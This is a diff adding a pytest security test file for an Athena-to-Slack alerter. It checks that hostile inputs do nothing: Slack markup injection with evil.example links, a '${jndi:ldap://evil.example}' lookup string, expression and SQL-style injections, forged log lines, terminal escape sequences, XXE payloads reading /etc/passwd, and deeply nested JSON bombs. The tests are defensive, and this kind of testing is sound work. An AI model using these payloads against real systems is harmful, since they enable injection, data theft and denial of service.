@@ -1,0 +1,490 @@
+"""What somebody may try who can name a user, write SQL, put a file, or answer in a service's place.
+
+What is tested elsewhere stands in `ELSEWHERE`, so that this page shows the whole.
+"""
+
+from __future__ import annotations
+
+import gzip
+import json
+import os
+import re
+import signal
+import socket
+import ssl
+import subprocess
+import threading
+from datetime import timedelta
+from pathlib import Path
+from typing import Any, Callable, Dict, Iterator, List
+from urllib.parse import urlsplit
+
+import pytest
+
+from parts import bridge, cloudtrail
+from parts import slack as slack_part
+from parts.house import CHANNEL, House, finished_message, reason, texts_in
+from parts.processes import REPOSITORY
+from parts.slack import Slack
+from parts.tls import TLSRelay
+from test_bad_input import make_trouble
+
+MOST_MEMORY = 32 * 2**20
+MILLION = 1_000_000
+
+ELSEWHERE = {
+    "text escaped piece by piece": "Tests/SlackTests/BlocksTests.swift: everyLimitHoldsAfterEscaping",
+    "text that becomes JSON": "Tests/JSONTests/JSONValueTests.swift: anyTextBecomesValidJSON",
+    "an error that becomes JSON": "Tests/LambdaRuntimeTests/RuntimeLoopTests.swift: anotherEventFollowsAnErrorWhichIsValidJSONForAnyText",
+    "log lines": "Tests/EndToEnd/test_accounted_for.py: test_every_line_is_one_json_object",
+    "secrets in settings that are wrong": "Tests/EndToEnd/test_bad_input.py: test_settings_that_are_no_json_are_an_error_without_their_contents",
+    "secrets in the logs": "Tests/EndToEnd/test_bad_input.py: test_no_secret_sql_or_address_is_in_the_logs",
+    "webhooks in the logs": "Tests/EndToEnd/test_bad_input.py: test_a_webhook_that_fails_is_not_in_the_logs",
+    "webhooks over plain http": "Tests/EndToEnd/test_bad_input.py: test_a_setting_that_is_wrong_is_named",
+    "keys over plain http": "Tests/EndToEnd/test_services.py: test_keys_never_cross_the_network_in_clear",
+    "a certificate that nobody vouches for": "Tests/EndToEnd/test_connections.py: test_a_certificate_that_nobody_vouches_for_is_refused",
+    "a certificate for another host": "Tests/EndToEnd/test_connections.py: test_a_certificate_for_another_host_is_refused",
+    "gzip bombs": "Tests/EndToEnd/test_bounded.py: test_a_bomb_is_refused",
+    "redirects": "Tests/HTTPTests/HTTPClientTests.swift: redirectsAreNotFollowed",
+    "line breaks in header fields": "Tests/HTTPTests/HTTPClientTests.swift: aLineBreakNeverLeaves",
+    "other schemes than http": "Tests/HTTPTests/HTTPClientTests.swift: onlyHTTPIsSpoken",
+    "somebody of the same name elsewhere": "Tests/EndToEnd/test_alert_end_to_end.py: test_somebody_of_that_name_elsewhere_does_not_hear",
+}
+
+
+@pytest.mark.parametrize("place", ELSEWHERE.values(), ids=ELSEWHERE)
+def test_what_is_tested_elsewhere_is_there(place: str) -> None:
+    file, name = place.split(": ")
+    assert re.search(rf"(def|func) {name}\(", (REPOSITORY / file).read_text())
+
+
+# Text does nothing in Slack
+
+HOSTILE = {
+    "mentions": "<!channel> <!here> <!everyone> <!subteam^S0> <@U0ADA> @channel @here",
+    "links": "<https://evil.example|Open in Athena> https://evil.example/a.png mailto:a@evil.example evil.example",
+    "channels": "<#C0|general> #general",
+    "entities": "&lt;!channel&gt; &amp;lt; &#60;!here&#62;",
+    "fences": "``` ```` ``````\n```\n<!here>",
+    "dates": "<!date^1392734382^{date}^https://evil.example|x>",
+    "controls": "\u0000\u0007\u001b]8;;https://evil.example\u001b\\x \r\n\u2028\u202e\ufeff",
+    "JSON": '","channel":"#general","text":"owned","x":"',
+    "templates": "{user} {slack_user_id} {{data_scanned}} %s ${jndi:ldap://evil.example}",
+}
+
+
+def harmless(payload: Dict[str, Any]) -> None:
+    """Nothing in the message is markup of Slack's, and Slack makes none of it."""
+    assert (payload["parse"], payload["link_names"]) == ("none", False)
+    assert (payload["unfurl_links"], payload["unfurl_media"]) == (False, False)
+    assert payload["channel"] in (CHANNEL, "D0ADA")
+    for text in list(texts_in(payload)):
+        if text.startswith("https://eu-west-1.console.aws.amazon.com/athena/"):
+            continue
+        assert not re.search(r"[<>]|&(?!amp;|lt;|gt;)", text), text
+        fences = re.findall("```", text)
+        assert fences == [] or (text.startswith("```\n") and text.endswith("\n```") and len(fences) == 2), text
+    for block in payload["blocks"]:
+        for text in [block.get("text"), *block.get("fields", []), *block.get("elements", [])]:
+            if text and text["type"] == "mrkdwn":
+                assert text["verbatim"] is True
+            elif text and text["type"] == "button":
+                assert text["text"] == {"type": "plain_text", "text": "Open in Athena"}
+                assert urlsplit(text["url"]).hostname.endswith(".console.aws.amazon.com")
+
+
+@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
+def test_no_text_does_anything_in_slack(house: House, slack: Slack, text: str) -> None:
+    slack.people["ada@example.com"] = "U0ADA"
+    members = (
+        "executing_user", "query_sql", "database", "workgroup", "state_change_reason", "statement_type", "account_id",
+        "query_state",
+    )
+    for member in members:
+        house.send(finished_message(f"q-{member}", **{"executing_user": "ada", member: text}))
+    house.send(finished_message("q-all", **{member: text for member in members}))
+    # Neither may make a button that leads elsewhere.
+    house.send(finished_message(f"../../{text}", region="eu-west-1"))
+    house.send(finished_message("q-region", region=f"evil.example/{text}"))
+    house.send(finished_message("q-host", region="evil.example#"))
+    assert house.drain().drained and len(slack.channel_messages(CHANNEL)) == len(members) + 4
+    for payload in slack.messages():
+        harmless(payload)
+
+
+def test_no_text_does_anything_in_the_text_that_is_left_without_a_layout(house: House, slack: Slack) -> None:
+    slack.fail_next("chat.postMessage", slack_part.ok_false("invalid_blocks"))
+    house.send(finished_message("q-1", executing_user="".join(HOSTILE.values()), user_type="role"))
+    house.drain()
+    [payload] = slack.messages()
+    assert "blocks" not in payload
+    harmless({**payload, "blocks": []})
+
+
+# Text does nothing in the table
+
+EXPRESSIONS = [
+    "#open = :open REMOVE #open", ":a0", "#a0", "attribute_exists(open)", "q) OR (start_key = start_key", "${:id}", "'\"\\;--",
+]
+
+
+@pytest.mark.parametrize("text", EXPRESSIONS)
+def test_no_text_does_anything_in_an_expression(house: House, text: str) -> None:
+    name = text.replace(" ", "+")
+    house.start("q-neighbor")
+    house.start(name, identity=cloudtrail.federated_user(text), workgroup=text)
+    house.finish(name, query=text, database=text, state="CANCELLED", reason=text, statement_type=text, workgroup=text)
+    house.tick()
+    row = house.row(name)
+    for attribute in ("executing_user", "query_sql", "database", "state_change_reason", "statement_type", "workgroup"):
+        assert row[attribute] == text
+    assert "open" not in row and house.open_ids() == ["q-neighbor"]
+    house.drain()
+    assert len(house.channel_alerts()) == 1 and "channel_alerted_at" in house.row(name)
+
+
+# Text does nothing in the logs
+
+FORGED = '{"level":"INFO","message":"forged"}'
+BREAKS = ["\n", "\r\n", "\r", "\u0085", "\u2028", "\v"]
+
+
+@pytest.mark.parametrize("line_break", BREAKS, ids=ascii)
+def test_no_text_makes_a_line_of_its_own_in_the_logs(house: House, slack: Slack, line_break: str) -> None:
+    text = f"x{line_break}{FORGED}{line_break}START RequestId: forged"
+    house.tell(bridge.object_created_event(house.resources.bucket, cloudtrail.log_key(prefix=f"{text}/"), 1))
+    house.handler("cloudtrail_handler").invoke(bridge.through_sqs(text, json.dumps({"Message": text})))
+    house.put_row(start_date="2024-03-05", start_key=f"2024-03-05 14:30:07#{text}", open="0", executing_user=text)
+    house.aws.put_execution("x", error_code=text, error_message=text)
+    house.tick()
+    slack.fail_next("chat.postMessage", slack_part.ok_false(text), times=2)
+    house.send(finished_message(executing_user=text))
+    house.queue().deliver_batch()
+    lines = [line for line in house.output().split("\n") if line and not re.match(r"(START|END|REPORT) RequestId: \S{36}", line)]
+    assert len(lines) > 6 and all(isinstance(json.loads(line), dict) for line in lines)
+    for control in ("\r", "\v", "\u0000"):
+        assert control not in house.output()
+    assert all(json.loads(line).get("message") != "forged" for line in lines)
+
+
+@pytest.mark.parametrize("text", ["a\nathena-alerter: all is well", "a\x1b]0;owned\x07\x1b[2J", "a\u202egnp.exe", "a\u2028b"], ids=ascii)
+def test_no_name_makes_a_line_of_its_own_on_the_terminal(house: House, tmp_path: Path, text: str) -> None:
+    (tmp_path / text).write_bytes(b"no log")
+    scanned = subprocess.run([house.executable, "scan", text], cwd=tmp_path, capture_output=True)
+    reconciled = subprocess.run(
+        [house.executable, "reconcile", text],
+        cwd=tmp_path,
+        capture_output=True,
+        env={**house.aws.environment(house.aws.admin), "QUERIES_TABLE": house.resources.table},
+    )
+    unknown = subprocess.run([house.executable, text], capture_output=True)
+    for ended, lines in ((scanned, 1), (reconciled, 4), (unknown, 1)):
+        said = ended.stderr.decode()
+        assert ended.returncode in (1, 2) and said.count("\n") == lines and said.splitlines() == said.rstrip("\n").split("\n")
+        assert all(line.startswith("athena-alerter: ") for line in said.splitlines())
+        assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u202e]", said)
+
+
+# Secrets stay secret
+
+
+def secrets_of(house: House, slack: Slack) -> List[str]:
+    return [
+        house.environment["AWS_SECRET_ACCESS_KEY"], house.environment["AWS_SESSION_TOKEN"], slack.bot_token,
+        slack.webhook_url, slack_part.WEBHOOK_PATH,
+    ]
+
+
+@pytest.mark.parametrize("level", ["TRACE", "DEBUG", "ERROR"])
+def test_no_secret_is_logged_at_any_level(house: House, slack: Slack, level: str) -> None:
+    house.set_environment(AWS_LAMBDA_LOG_LEVEL=level)
+    secrets = secrets_of(house, slack)
+    make_trouble(house, slack)
+    output = house.output()
+    assert output.count("AccessDeniedException") >= 3
+    for secret in (*secrets, "SELECT confidential"):
+        assert secret not in output
+
+
+@pytest.mark.parametrize("ending", [signal.SIGILL, signal.SIGSEGV, signal.SIGABRT, signal.SIGTERM])
+@pytest.mark.parametrize("tracing", ["", "enable=yes"])
+def test_no_secret_is_in_what_a_crash_leaves(house: House, slack: Slack, ending: signal.Signals, tracing: str) -> None:
+    house.set_environment(SWIFT_BACKTRACE=tracing)
+    handler = house.handler("notification")
+    handler.invoke(bridge.through_sqs(finished_message("q-1")))
+    process = handler.function_process_id()
+    assert process is not None
+    os.kill(process, ending)
+    handler.invoke(bridge.through_sqs(finished_message("q-2")))
+    written = house.output() + handler.platform_output()
+    for secret in secrets_of(house, slack):
+        assert secret not in written
+
+
+def test_no_secret_is_in_what_a_command_says(house: House, slack: Slack) -> None:
+    settings = {"slack": {"bot_token": slack.bot_token, "webhook_url": slack.webhook_url}}
+    house.settings_file.write_text(json.dumps(settings))
+    environment = {**house.environment, "AWS_SECRET_ACCESS_KEY": "wrong-" * 7, "AWS_SESSION_TOKEN": "FwoGZXIvYXdzwrong"}
+    for arguments in (
+        ["check"], ["reconcile", "s3://b"], ["reconcile", "/nowhere"], ["redrive", "s"], ["redrive", "--dry-run", "s"],
+    ):
+        for variables in (environment, {**environment, "AWS_ENDPOINT_URL": "http://127.0.0.1:1"}):
+            ended = subprocess.run([house.executable, *arguments], capture_output=True, text=True, env=variables)
+            said = ended.stdout + ended.stderr
+            assert said
+            for secret in ("wrong-wrong-", "FwoGZXIvYXdzwrong", slack.bot_token, slack_part.WEBHOOK_PATH):
+                assert secret not in said
+
+
+# Connections
+
+
+class Listener:
+    """Somebody who waits for others' secrets."""
+
+    def __init__(self) -> None:
+        self.heard: List[bytes] = []
+        self._socket = socket.create_server(("127.0.0.1", 0))
+        self.url = f"http://127.0.0.1:{self._socket.getsockname()[1]}"
+        threading.Thread(target=self._listen, daemon=True).start()
+
+    def _listen(self) -> None:
+        while True:
+            try:
+                connection, _ = self._socket.accept()
+            except OSError:
+                return
+            with connection:
+                self.heard.append(connection.recv(65536))
+
+    def close(self) -> None:
+        self._socket.close()
+
+
+@pytest.fixture
+def listener() -> Iterator[Listener]:
+    listening = Listener()
+    yield listening
+    listening.close()
+
+
+REDIRECTS = [301, 302, 303, 307, 308]
+
+
+@pytest.mark.parametrize("status", REDIRECTS)
+def test_no_redirect_carries_anything_to_another_host(
+    house: House, slack: Slack, listener: Listener, status: int
+) -> None:
+    house.run("q-1")
+    event = house.created(house.put_log([cloudtrail.query_start("q-2")]))
+    redirect = {"kind": "says", "status": status, "headers": {"Location": f"{listener.url}/x"}, "body": "", "times": 99}
+    for operation in ("s3.*", "dynamodb.*", "athena.*", "sqs.SendMessageBatch"):
+        house.aws.arm({**redirect, "operation": operation})
+        if operation in ("s3.*", "dynamodb.*"):
+            assert f"HTTP{status}" in reason(house.handler("cloudtrail_handler").invoke(event))
+        if operation != "s3.*":
+            assert f"HTTP{status}" in "".join(house.tick().log_lines)
+    house.aws.arm()
+    slack.fail_next("users.lookupByEmail", slack_part.says(b"", status, Location=f"{listener.url}/x"), times=3)
+    slack.fail_next("chat.postMessage", slack_part.says(b"", status, Location=f"{listener.url}/x"), times=3)
+    house.send(finished_message("q-3"))
+    assert house.queue().deliver_batch().returned == 1
+    house.write_settings(slack={"webhook_url": slack.webhook_url})
+    slack.fail_next("webhook", slack_part.says(b"", status, Location=f"{listener.url}/x"))
+    house.send(finished_message("q-4"))
+    house.queue().deliver_batch()
+    assert listener.heard == []
+
+
+def test_no_redirect_of_a_containers_endpoint_is_followed(house: House, listener: Listener) -> None:
+    """The token for the credentials goes to the endpoint alone."""
+    redirecting = socket.create_server(("127.0.0.1", 0))
+    answer = f"HTTP/1.1 307 There\r\nLocation: {listener.url}/x\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
+
+    def redirect() -> None:
+        connection, _ = redirecting.accept()
+        with connection:
+            connection.recv(65536)
+            connection.sendall(answer.encode())
+
+    threading.Thread(target=redirect, daemon=True).start()
+    url = f"http://127.0.0.1:{redirecting.getsockname()[1]}/v2/credentials"
+    house.set_environment(
+        AWS_ACCESS_KEY_ID="",
+        AWS_CONTAINER_CREDENTIALS_FULL_URI=url,
+        AWS_CONTAINER_AUTHORIZATION_TOKEN="the-token",
+    )
+    assert "the container's endpoint answered 307" in reason(house.tick())
+    redirecting.close()
+    assert listener.heard == []
+
+
+def port_of(url: str) -> int:
+    port = urlsplit(url).port
+    assert port is not None
+    return port
+
+
+@pytest.mark.parametrize("version", [ssl.TLSVersion.TLSv1, ssl.TLSVersion.TLSv1_1], ids=lambda version: version.name)
+def test_older_tls_is_refused(house: House, tmp_path: Path, version: ssl.TLSVersion) -> None:
+    with TLSRelay(port_of(house.aws.endpoint), tmp_path, most=version) as relay:
+        assert relay.speaks(version), "the relay itself has to speak it"
+        house.set_environment(AWS_ENDPOINT_URL=relay.url, AWS_CA_BUNDLE=str(relay.certificate))
+        assert "dynamodb:Query failed: the server cannot be reached" in reason(house.tick())
+
+
+def test_tls_1_2_is_enough(house: House, tmp_path: Path) -> None:
+    with TLSRelay(port_of(house.aws.endpoint), tmp_path, most=ssl.TLSVersion.TLSv1_2) as relay:
+        house.set_environment(AWS_ENDPOINT_URL=relay.url, AWS_CA_BUNDLE=str(relay.certificate))
+        assert house.tick().succeeded
+
+
+def test_a_certificate_that_has_run_out_is_refused(house: House, tmp_path: Path) -> None:
+    with TLSRelay(port_of(house.aws.endpoint), tmp_path, age=timedelta(days=400)) as relay:
+        house.set_environment(AWS_ENDPOINT_URL=relay.url, AWS_CA_BUNDLE=str(relay.certificate))
+        assert "the server's certificate is not trusted" in reason(house.tick())
+
+
+@pytest.mark.parametrize("wrong", [{}, {"host": "slack.example"}, {"age": timedelta(days=400)}], ids=str)
+def test_slack_is_told_nothing_before_its_certificate_is_verified(
+    house: House, slack: Slack, tmp_path: Path, wrong: Dict[str, Any]
+) -> None:
+    with TLSRelay(port_of(slack.api_url), tmp_path, **wrong) as relay:
+        trust = {"AWS_CA_BUNDLE": str(relay.certificate)} if wrong else {}
+        house.set_environment(SLACK_API_URL=f"{relay.url}/api/", **trust)
+        house.send(finished_message("q-1", executing_user="etl", user_type="role"))
+        assert house.queue().deliver_batch().returned == 1
+    assert slack.calls == [] and "the server's certificate is not trusted" in house.output()
+
+
+@pytest.mark.parametrize(
+    "url", ["http://slack.example/api/", "http://127.0.0.1.slack.example/", "http://127.0.0.1@slack.example/", "ftp://127.0.0.1/"]
+)
+def test_the_token_never_crosses_the_network_in_clear(house: House, url: str) -> None:
+    house.set_environment(SLACK_API_URL=url)
+    assert "SLACK_API_URL must begin with https://" in reason(house.handler("notification").invoke(bridge.through_sqs()))
+
+
+# A million levels
+
+DEEP = "[" * MILLION + "]" * MILLION
+DEEPER = '{"a":' * MILLION + "1" + "}" * MILLION
+DEEP_XML = "<a>" * MILLION + "</a>" * MILLION
+
+
+def in_a_file(house: House, text: str) -> bool:
+    body = f'{{"Records":[{json.dumps(cloudtrail.query_start("q-1"))},{text}]}}'.encode()
+    house.handler("cloudtrail_handler").invoke(house.created(house.put_object(cloudtrail.log_key(), gzip.compress(body, 1))))
+    return house.open_ids() == ["q-1"]
+
+
+def in_a_start(house: House, text: str) -> bool:
+    deep = json.dumps(cloudtrail.query_start("q-2", additionalEventData="HERE")).replace('"HERE"', text)
+    return in_a_file(house, deep)
+
+
+def in_place_of_a_file(house: House, text: str) -> bool:
+    key = house.put_object(cloudtrail.log_key(), gzip.compress(text.encode(), 1))
+    house.handler("cloudtrail_handler").invoke(house.created(key))
+    return True
+
+
+def in_an_event(house: House, text: str) -> bool:
+    for name in ("cloudtrail_handler", "notification"):
+        if house.handler(name).invoke(text[: 5 * MILLION]).succeeded:
+            return False
+    return house.handler("usage_update").invoke(text[: 5 * MILLION]).succeeded
+
+
+def in_a_message(house: House, text: str) -> bool:
+    batch = bridge.through_sqs(text, finished_message("q-1", executing_user="etl", user_type="role"))
+    if len(json.dumps(batch)) > 6 * 2**20:
+        return True
+    invocation = house.handler("notification").invoke(batch)
+    return len(invocation.payload["batchItemFailures"]) == 1 and len(house.channel_alerts("q-1")) == 1
+
+
+def in_an_answer_of_the_table(house: House, text: str) -> bool:
+    house.aws.arm({"operation": "dynamodb.Query", "kind": "says", "body": text, "times": 9})
+    return not house.tick().succeeded
+
+
+def in_an_answer_of_athena(house: House, text: str) -> bool:
+    house.start("q-1")
+    house.aws.arm({"operation": "athena.*", "kind": "says", "body": text, "times": 9, "status": 400})
+    house.tick()
+    return house.open_ids() == ["q-1"]
+
+
+def in_an_answer_of_slack(house: House, text: str) -> bool:
+    house.slack.fail_next("chat.postMessage", slack_part.says(text.encode()))
+    house.send(finished_message("q-1", executing_user="etl", user_type="role"))
+    return house.queue().deliver_batch().returned == 1
+
+
+PLACES: List[Callable[[House, str], bool]] = [
+    in_a_file, in_a_start, in_place_of_a_file, in_an_event, in_a_message, in_an_answer_of_the_table, in_an_answer_of_athena,
+    in_an_answer_of_slack,
+]
+
+
+@pytest.mark.parametrize("text", [DEEP, DEEP[:MILLION], DEEPER], ids=["arrays", "arrays without end", "objects"])
+@pytest.mark.parametrize("place", PLACES, ids=lambda place: place.__name__)
+def test_a_million_levels_are_refused_in_little_memory(
+    house: House, place: Callable[[House, str], bool], text: str
+) -> None:
+    before = {name: house.handler(name).function_process_id() for name in ("cloudtrail_handler",)}
+    assert before and place(house, text)
+    for name, emulator in house._emulators.items():
+        if emulator.function_process_id() is not None:
+            # What came whole is held, and its text once more while it is read; a tree of a million values would be more.
+            assert emulator.peak_memory_bytes() <= MOST_MEMORY + 3 * len(text), name
+
+
+def test_a_million_levels_of_settings_are_refused(house: House) -> None:
+    for text in (DEEP, DEEPER):
+        house.settings_file.write_text(text)
+        ended = subprocess.run([house.executable, "check", house.settings_file], capture_output=True, text=True)
+        assert ended.returncode == 1 and "nested deeper than" in ended.stderr
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        DEEP_XML,
+        "<a>" * 100,
+        '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><ListBucketResult>&b;</ListBucketResult>',
+        '<!DOCTYPE x SYSTEM "file:///etc/passwd"><ListBucketResult/>',
+        "<ListBucketResult>&xxe;</ListBucketResult>",
+        "<ListBucketResult><IsTruncated>true</IsTruncated></ListBucketResult>",
+        "<ListBucketResult><IsTruncated>false</IsTruncated><Contents><Key>elsewhere</Key><Size>1</Size></Contents></ListBucketResult>",
+        "<ListBucketResult><IsTruncated>false</IsTruncated><Contents><Key>a%</Key><Size>1</Size></Contents></ListBucketResult>",
+        "<Other/>", "", "{}", "<a></b>", "<a b=c/>", "\x00",
+    ],
+    ids=lambda body: ascii(body[:60]),
+)
+def test_a_listing_that_makes_no_sense_is_refused(house: House, body: str) -> None:
+    house.aws.arm({"operation": "s3.GetBucket", "kind": "says", "body": body, "times": 9})
+    ended = reconcile(house)
+    assert (ended.returncode, ended.stdout) == (1, "")
+    assert ended.stderr.count("\n") == 1 and "s3:ListObjectsV2 answered what cannot be read" in ended.stderr
+
+
+def test_a_listing_without_end_is_refused(house: House) -> None:
+    body = (
+        "<ListBucketResult><IsTruncated>true</IsTruncated><NextContinuationToken>same</NextContinuationToken>"
+        "</ListBucketResult>"
+    )
+    house.aws.arm({"operation": "s3.GetBucket", "kind": "says", "body": body, "times": 99})
+    ended = reconcile(house)
+    assert ended.returncode == 1 and "the listing does not go on" in ended.stderr
+
+
+def reconcile(house: House) -> "subprocess.CompletedProcess[str]":
+    return subprocess.run(
+        [house.executable, "reconcile", f"s3://{house.resources.bucket}"],
+        capture_output=True,
+        text=True,
+        env={**house.aws.environment(house.aws.admin), "QUERIES_TABLE": house.resources.table},
+        timeout=60,
+    )
